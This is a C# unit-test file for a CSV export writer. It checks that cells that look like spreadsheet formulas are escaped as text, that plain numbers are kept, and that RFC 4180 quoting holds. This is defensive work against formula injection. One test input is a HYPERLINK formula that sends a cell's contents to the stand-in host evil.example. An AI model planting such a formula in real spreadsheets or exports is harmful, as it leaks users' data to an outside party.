using Rapport.Infrastructure;

namespace Rapport.Tests.Infrastructure;

/// <summary>The one CSV writer behind every export: RFC 4180 quoting, and cells that a spreadsheet would run as a formula
/// written as text, while plain numbers (negative ones too) stay numbers.</summary>
public sealed class CsvWriterTests
{
    private static string Cell(string? value) => new CsvWriter().Row(value).ToString()[..^2];

    [Theory]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("+1+1", "\"'+1+1\"")]
    [InlineData("-1+1", "\"'-1+1\"")]
    [InlineData("@SUM(A1:A9)", "\"'@SUM(A1:A9)\"")]
    [InlineData("\t=1+1", "\"'\t=1+1\"")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("\n=1+1", "\"'\n=1+1\"")]
    [InlineData("\0=1+1", "\"'\0=1+1\"")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"")]
    [InlineData("-", "\"'-\"")]
    [InlineData("-.5", "\"'-.5\"")]
    [InlineData("-1e5", "\"'-1e5\"")]
    [InlineData("-12.", "\"'-12.\"")]
    [InlineData("- 12", "\"'- 12\"")]
    public void Row_CellStartingLikeAFormula_WrittenAsQuotedText(string value, string written) => Cell(value).ShouldBe(written);

    [Theory]
    [InlineData("-12.50")]
    [InlineData("-3")]
    [InlineData("0.6667")]
    [InlineData("1086.47")]
    [InlineData("2026-03-02")]
    [InlineData("Fence and gate")]
    [InlineData("a=b")]
    [InlineData("")]
    public void Row_PlainNumbersAndText_WrittenAsTheyAre(string value) => Cell(value).ShouldBe(value);

    [Theory]
    [InlineData("Lee, Sam", "\"Lee, Sam\"")]
    [InlineData("The \"best\" tap", "\"The \"\"best\"\" tap\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData("a;=1+1", "\"a;=1+1\"")]
    public void Row_SeparatorsQuotesAndLineBreaks_QuotedPerRfc4180(string value, string written) => Cell(value).ShouldBe(written);

    [Fact]
    public void Row_SeveralRows_CommaSeparatedCrlfTerminated_NullIsEmpty()
    {
        var csv = new CsvWriter().Row("key", "kept").Row("7", null).Row(["all", "-1"]);

        csv.ToString().ShouldBe("key,kept\r\n7,\r\nall,-1\r\n");
    }
}
